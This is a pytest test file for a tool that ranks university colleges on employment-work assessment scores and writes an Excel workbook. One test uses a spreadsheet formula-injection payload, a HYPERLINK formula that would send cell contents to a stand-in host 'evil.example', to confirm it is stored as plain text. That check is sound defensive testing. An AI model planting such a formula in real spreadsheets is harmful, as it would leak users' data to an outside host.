"""The ranking workbook: `jyscore rank … -o X.xlsx`."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from jyscore import load_sheet, score
from jyscore.cli import cli
from jyscore.core import run as rank_run
from jyscore.core.engine import Totals
from jyscore.core.ranking import Standing, rank
from jyscore.core.run import DETAIL_LIMIT
from jyscore.writers.atomic import OutputError
from jyscore.writers.xlsx.ranking import (
    CHART_ROWS,
    STYLED_ROWS,
    sheet_title,
    write_ranking_workbook,
)

from .conftest import ROOT
from .sheets import sheet_text
from .xlsx_charts import sheet_charts

EXAMPLES = ROOT / "examples" / "2024"


@pytest.fixture(scope="module")
def workbook_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("rank") / "2024-排名.xlsx"
    result = CliRunner().invoke(cli, ["--lang", "zh", "rank", str(EXAMPLES), "-o", str(path)])
    assert result.exit_code == 0, result.output
    return path


@pytest.fixture(scope="module")
def workbook(workbook_file: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(workbook_file)


def test_sheets(workbook):
    names = workbook.sheetnames
    assert names[:2] == ["排名", "总分图"] and names[-1] == "说明"
    assert sorted(names[2:-1]) == sorted(p.stem for p in EXAMPLES.glob("*.yaml"))


def test_ranking_sheet_matches_the_engine(workbook, rubric):
    ws = workbook["排名"]
    assert ws["A1"].value == "内蒙古师范大学学生就业工作考核指标体系 2024 年度排名（考核分数）"
    assert "同分并列同一名次" in ws["A2"].value and "考核分数" in ws["A2"].value
    header = [c.value for c in ws[3]]
    assert header == ["排名", "学院", "组织领导", "市场开发与建设", "就业指导与服务", "就业管理",
                      "工作成效", "基础分", "加分", "总分"]
    assert ws.freeze_panes == "C4"
    assert ws.auto_filter.ref == f"A3:J{ws.max_row}"
    assert ws.print_title_rows == "$3:$3"
    assert ws["A3"].font.bold and ws["A3"].fill.fgColor.rgb.endswith("D9E1F2")
    results = [score(rubric, load_sheet(p, rubric)) for p in EXAMPLES.glob("*.yaml")]
    expected = rank(results)
    for row, ranked in zip(ws.iter_rows(min_row=4, values_only=True), expected.rows,
                           strict=True):
        assert row[0] == ranked.rank and row[1] == ranked.college
        assert Decimal(repr(row[-1])) == ranked.total
        assert Decimal(repr(row[-3])) == ranked.base and Decimal(repr(row[-2])) == ranked.bonus
    # numbers as numbers, shown as they are: 21 and 21.5, never 21.0
    assert isinstance(ws["C4"].value, int) and ws["C4"].value == 21
    assert ws["J4"].value == 105.5 and ws["J4"].number_format == "General"


def test_chart_of_totals(workbook_file):
    charts = sheet_charts(workbook_file, "总分图")
    assert len(charts) == 1
    chart = charts[0]
    assert chart.kind == "barChart"
    assert "排名" in chart.values[0]


def test_detail_sheet_per_college(workbook):
    ws = workbook["文学院"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "文学院 2024"
    assert rows[2] == ("编号", "指标", "分值", "自评分数", "考核分数", "差值", "备注")
    by_id = {r[0]: r for r in rows[3:] if r[0]}
    assert by_id["1.1"][1:6] == ("领导重视", 6, 6, 5.5, 0.5)
    assert ws[f"F{[r[0] for r in rows].index('1.1') + 1}"].number_format == "+General;-General;0"
    assert by_id["6.1.1"][6] == "目标就业率 89.4；毕业生人数 125；就业人数 120"
    assert rows[-1][1:5] == ("总分", None, 104, 98)


def test_about_sheet_names_rubric_and_tie_policy(workbook):
    text = " ".join(str(v) for row in workbook["说明"].iter_rows(values_only=True)
                    for v in row if v)
    assert "imnu-employment" in text and "同分并列同一名次" in text and "考核分数" in text
    values = {row[0]: row[1] for row in workbook["说明"].iter_rows(values_only=True)}
    # numbers stored as numbers, not text
    assert values["年度"] == 2024 and values["参加排名的学院数"] == 7
    assert values["满分（基础分）"] == 100 and values["1 组织领导"] == 21


def test_every_sheet_prints_on_a4_with_header_footer_and_cjk_font(workbook):
    for ws in workbook.worksheets:
        assert str(ws.page_setup.paperSize) == "9", ws.title
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0, ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert "内蒙古师范大学" in ws.oddHeader.left.text, ws.title
        assert ws.oddHeader.right.text, ws.title
        assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text, ws.title
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == "宋体", (ws.title, cell.coordinate)
    assert workbook["文学院"].print_title_rows == "$3:$3"
    assert workbook["文学院"].oddHeader.right.text.endswith("文学院")


def test_rows_are_tall_enough_for_their_wrapped_text(workbook):
    from jyscore.writers.xlsx.printing import height_for, text_lines

    ws = workbook["文学院"]
    width = ws.column_dimensions["B"].width
    checked = 0
    for row in ws.iter_rows(min_row=4):
        name = row[1]
        if isinstance(name.value, str):
            lines = text_lines(name.value, width - 2 * (name.alignment.indent or 0))
            if lines > 1:
                assert ws.row_dimensions[name.row].height >= height_for(lines), name.value
                checked += 1
    assert checked > 5  # the long item names do wrap


def test_a_college_named_like_a_formula_is_text(tmp_path: Path):
    sheets = tmp_path / "sheets"
    sheets.mkdir()
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
    (sheets / "evil.yaml").write_text(sheet_text(college=f"'{evil.replace(chr(39), chr(39) * 2)}'"),
                                      encoding="utf-8")
    (sheets / "b.yaml").write_text(sheet_text(college="+SUM(1,2)"), encoding="utf-8")
    out = tmp_path / "r.xlsx"
    result = CliRunner().invoke(cli, ["rank", str(sheets), "-o", str(out)])
    assert result.exit_code == 0, result.output
    workbook = openpyxl.load_workbook(out)
    colleges = {workbook["排名"].cell(r, 2).value: workbook["排名"].cell(r, 2) for r in (4, 5)}
    assert set(colleges) == {evil, "+SUM(1,2)"}
    assert all(cell.data_type == "s" for cell in colleges.values())
    # and in its own sheet, whose title had to lose the characters a title may not have
    detail = [ws for ws in workbook.worksheets if ws.title.startswith("=HYPERLINK")][0]
    assert detail["A1"].value == f"{evil} 2024" and detail["A1"].data_type == "s"


def test_sheet_titles_are_valid_and_unique():
    taken = {"排名", "说明"}
    assert sheet_title("a/b:c", taken) == "a_b_c"
    long = "很长的学院名称" * 6
    first = sheet_title(long, taken)
    taken.add(first)
    second = sheet_title(long, taken)
    assert len(first) <= 31 and len(second) <= 31 and first != second
    assert sheet_title("排名", taken) == "排名 (2)"
    assert sheet_title("'", taken) == "_"


def test_library_writer(tmp_path: Path, rubric):
    results = [score(rubric, load_sheet(p, rubric)) for p in sorted(EXAMPLES.glob("*.yaml"))]
    path = tmp_path / "r.xlsx"
    write_ranking_workbook(rank(results), rubric, path)
    assert openpyxl.load_workbook(path)["排名"]["B4"].value == "化学与环境科学学院"
    written = path.read_bytes()
    with pytest.raises(OutputError) as refused:
        write_ranking_workbook(rank(results), rubric, path)  # never overwrites by default
    # the CLI words JY701: "{path} already exists; pass --force to replace it"
    assert (refused.value.code, refused.value.path) == ("JY701", path)
    assert path.read_bytes() == written


def test_sheet_titles_are_unique_regardless_of_case():
    assert sheet_title("Art", {"art"}) == "Art (2)"


def _standing(index: int, rubric) -> Standing:
    base = Decimal(60) + Decimal(index % 400) / 10
    totals = {"assessed": Totals(base, Decimal(index % 3)), "self": None}
    primary = {"assessed": {node.id: base / 5 for node in rubric.indicators}}
    college = {7: '=HYPERLINK("x")', 8: "#N/A"}.get(index, f"学院{index:04d}")
    return Standing(college, 2024, f"s{index}.yaml", totals, primary)


@pytest.mark.lang("zh")
def test_a_big_ranking_is_plain_values_without_detail_sheets(tmp_path: Path, rubric):
    count = max(STYLED_ROWS, DETAIL_LIMIT, CHART_ROWS) + 5
    ranking = rank([_standing(i, rubric) for i in range(count)])
    path = tmp_path / "big.xlsx"
    write_ranking_workbook(ranking, rubric, path)  # the year from the rows
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["排名", "总分图", "说明"]
    ws = workbook["排名"]
    assert ws.max_row == count + 3
    for cells_, ranked in zip(ws.iter_rows(min_row=4), ranking.rows, strict=True):
        assert cells_[0].value == ranked.rank and cells_[1].value == ranked.college
        assert cells_[1].data_type == "s"  # the names like a formula or an error value too
        assert Decimal(repr(cells_[-1].value)) == ranked.total
    assert ws["J4"].number_format == "General" and ws["A3"].font.bold
    assert ws["B10"].font.name == "宋体"  # plain values too: the workbook's default font
    chart = sheet_charts(path, "总分图")[0]
    assert chart.values[0].endswith(f"$J$4:$J${CHART_ROWS + 3}")
    about = " ".join(str(v) for row in workbook["说明"].iter_rows(values_only=True)
                     for v in row if v)
    assert f"共 {count} 个学院" in about and f"前 {CHART_ROWS} 名" in about and "2024" in about


@pytest.mark.lang("zh")
def test_rank_keeps_item_tables_only_for_small_runs(tmp_path: Path, monkeypatch):
    monkeypatch.setattr(rank_run, "DETAIL_LIMIT", 3)
    out = tmp_path / "r.xlsx"
    result = CliRunner().invoke(cli, ["rank", str(EXAMPLES), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(out).sheetnames == ["排名", "总分图", "说明"]


@pytest.mark.lang("zh")
def test_item_tables_are_kept_for_the_colleges_ranked_not_the_files_read(
    tmp_path: Path, monkeypatch
):
    monkeypatch.setattr(rank_run, "DETAIL_LIMIT", 3)
    folder = tmp_path / "sheets"
    folder.mkdir()
    for example in sorted(EXAMPLES.glob("*.yaml"))[:3]:
        (folder / example.name).write_bytes(example.read_bytes())
    (folder / "broken.yaml").write_text("college: x\n", encoding="utf-8")
    out = tmp_path / "r.xlsx"
    result = CliRunner().invoke(cli, ["rank", str(folder), "-o", str(out), "--skip-invalid"])
    assert result.exit_code == 0, result.output
    names = openpyxl.load_workbook(out).sheetnames
    assert len(names) == 3 + 3 and names[-1] == "说明"


@pytest.mark.lang("zh")  # jyscore's own words in the table/workbook: 汇总, 考核人数, 说明 …
def test_each_skipped_sheet_has_its_own_row_on_the_notes_sheet(tmp_path: Path):
    folder = tmp_path / "sheets"
    folder.mkdir()
    (folder / "a.yaml").write_bytes((EXAMPLES / "文学院.yaml").read_bytes())
    for name in ("broken1.yaml", "broken2.yaml"):
        (folder / name).write_text("college: x\n", encoding="utf-8")
    out = tmp_path / "r.xlsx"
    result = CliRunner().invoke(cli, ["rank", str(folder), "-o", str(out), "--skip-invalid"])
    assert result.exit_code == 0, result.output
    rows = list(openpyxl.load_workbook(out)["说明"].iter_rows(values_only=True))
    at = [r[0] for r in rows].index("未参加排名（表格有误）")
    assert rows[at][1].endswith("broken1.yaml")
    assert rows[at + 1][0] is None and rows[at + 1][1].endswith("broken2.yaml")
